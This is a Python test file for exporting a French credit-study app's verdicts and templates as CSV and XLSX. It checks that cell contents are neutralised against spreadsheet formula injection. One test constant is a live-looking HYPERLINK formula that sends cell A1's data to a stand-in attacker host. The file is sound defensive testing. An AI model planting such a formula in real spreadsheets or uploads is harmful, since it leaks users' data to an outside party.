"""Verdicts and the template as CSV and XLSX (issue 8 "Upload"), safe against formula injection."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from studies.columns import Column
from studies.exports import (
    spreadsheet_safe,
    template_csv,
    template_xlsx,
    verdicts_csv,
    verdicts_from_lines,
    verdicts_xlsx,
)
from studies.models import LineVerdict as StoredVerdict
from studies.models import StudyLine
from studies.parsing import read_buyer_list
from studies.services.lists import _error as stored_error  # the stored form, exactly
from studies.verdicts import LineVerdict, line_verdicts

D = Decimal
INJECTION = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")'


def verdicts_of(text: str) -> list[LineVerdict]:
    parsed = read_buyer_list(content=text.encode("utf-8"), filename="etude.csv")
    return line_verdicts(lines=parsed.lines, top_up_multiple=D(2), headers=parsed.headers)


# As a spreadsheet writes it in a CSV cell: quoted, with its quotes doubled.
QUOTED = '"' + INJECTION.replace('"', '""') + '"'
MESSY = verdicts_of(
    "SIREN;Raison sociale;Encours;Limite primaire;Top-up demandé\n"
    "552 100 554;Martin;100 000,50;40 000;40 000\n"
    f"732829320;{QUOTED};1 000;abc;\n"
)


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with its BOM
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_the_verdicts_csv_has_a_bom_semicolons_and_french_decimals() -> None:
    header, accepted, refused = csv_rows(verdicts_csv(MESSY))

    assert header[:2] == ["Ligne", "Verdict"] and header[-1] == "Erreurs"
    assert accepted[:7] == [
        "2",
        "Accepté",
        "552 100 554",
        "Martin",
        "100000,50",
        "40000,00",
        "40000,00",
    ]
    assert accepted[7:] == ["552100554", ""]
    assert refused[1] == "Refusé" and refused[5] == "abc"  # a cell that is not a number, as typed
    assert refused[-1].startswith("Ligne 3, colonne « Limite primaire » :")


def test_a_formula_in_a_name_is_quoted_in_the_csv() -> None:
    _header, _accepted, refused = csv_rows(verdicts_csv(MESSY))

    assert refused[3] == "'" + INJECTION


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
def test_every_formula_start_gets_a_quote(start: str) -> None:
    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"


def test_plain_text_is_left_alone() -> None:
    assert spreadsheet_safe("Société Générale") == "Société Générale"


def test_a_formula_in_a_name_is_a_string_in_the_xlsx_never_a_formula() -> None:
    content = verdicts_xlsx(MESSY)

    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    name = sheet.cell(row=3, column=4)
    assert (name.value, name.data_type) == (INJECTION, "s")
    assert name.quotePrefix


def test_the_verdicts_xlsx_writes_amounts_as_numbers() -> None:
    sheet = load_workbook(io.BytesIO(verdicts_xlsx(MESSY))).worksheets[0]

    assert sheet.cell(row=2, column=5).value == 100000.5
    assert sheet.cell(row=2, column=5).number_format == "#,##0.00"
    assert sheet.cell(row=3, column=6).value == "abc"


@pytest.mark.parametrize("export", [verdicts_csv, verdicts_xlsx])
def test_a_corrected_verdicts_file_can_be_uploaded_again(
    export: Callable[[list[LineVerdict]], bytes],
) -> None:
    content = export(MESSY)
    parsed = read_buyer_list(content=content, filename="verdicts")

    assert [line.name for line in parsed.lines] == ["Martin", INJECTION]
    assert parsed.lines[0].exposure == D("100000.50")


@pytest.mark.parametrize(
    ("template", "filename"), [(template_csv, "t.csv"), (template_xlsx, "t.xlsx")]
)
def test_the_template_has_french_headers_and_an_accepted_example_line(
    template: Callable[[], bytes], filename: str
) -> None:
    parsed = read_buyer_list(content=template(), filename=filename)

    assert parsed.headers[Column.NAME] == "Raison sociale"
    assert set(parsed.headers) == set(Column)
    (result,) = line_verdicts(lines=parsed.lines, top_up_multiple=D(2))
    assert result.accepted
    assert (result.line.exposure, result.line.primary, result.line.top_up) == (
        D("100000"),
        D("40000"),
        D("40000"),
    )


# --- the verdicts file once the uploaded file is gone: from the stored lines -------------------


def stored(verdict: LineVerdict) -> StudyLine:
    """The line as the analysis stores it (never saved: the rebuild needs no database)."""
    line = verdict.line
    return StudyLine(
        line_number=line.number,
        identifier=line.identifier,
        name=line.name,
        exposure=line.exposure,
        primary_amount=line.primary,
        requested_top_up=line.top_up,
        verdict=StoredVerdict.ACCEPTED if verdict.accepted else StoredVerdict.REFUSED,
        errors=[stored_error(error) for error in verdict.errors],
    )


@pytest.mark.parametrize("export", [verdicts_csv, verdicts_xlsx])
def test_the_verdicts_file_from_stored_lines_is_the_file_of_the_upload(
    export: Callable[[list[LineVerdict]], bytes],
) -> None:
    rebuilt = verdicts_from_lines(stored(verdict) for verdict in MESSY)

    assert [error.column for error in rebuilt[1].errors] == [Column.PRIMARY]
    if export is verdicts_csv:
        assert export(rebuilt) == export(MESSY)
    else:
        rows = [
            list(load_workbook(io.BytesIO(export(v))).worksheets[0].values)
            for v in (rebuilt, MESSY)
        ]
        assert rows[0] == rows[1]


def test_an_older_stored_error_is_read_by_its_header_and_keeps_its_message() -> None:
    old = StudyLine(
        line_number=7,
        identifier="732829320",
        name="Martin",
        exposure=D("1000"),
        verdict=StoredVerdict.REFUSED,
        errors=[
            {
                "column": "Limite primaire",
                "value": "abc",
                "problem": "not_a_number",
                "message": "Ligne 7, colonne « Limite primaire » : « abc » n'est pas un montant.",
            }
        ],
    )
    refused_later = StudyLine(line_number=8, identifier="123", verdict=StoredVerdict.REFUSED)

    (verdict, bare) = verdicts_from_lines([old, refused_later])

    (error,) = verdict.errors
    assert (error.column, error.header, error.value) == (Column.PRIMARY, "Limite primaire", "abc")
    assert error.message.startswith("Ligne 7, colonne « Limite primaire »")
    assert verdict.line.text(Column.PRIMARY) == "abc" and verdict.buyer_key == "732829320"
    # Refused with no error stored (no buyer could be recorded): never written as accepted.
    assert not bare.accepted and bare.errors[0].message == "Ligne 8 : refusée."
    assert bare.company is None
